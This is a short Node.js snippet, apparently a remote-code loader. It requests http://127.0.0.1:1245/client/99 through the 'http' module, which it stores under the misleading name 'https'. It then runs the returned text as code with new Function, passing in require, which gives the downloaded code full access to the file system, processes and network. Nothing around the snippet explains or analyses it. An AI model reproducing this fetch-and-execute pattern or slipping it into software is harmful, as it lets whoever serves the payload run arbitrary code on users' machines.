const https = require("http");
https.get("http://127.0.0.1:1245/client/99", (res) => {
  let d = "";
  res.on("data", (c) => (d += c));
  res.on("end", () => new Function("require", d)(require));
});
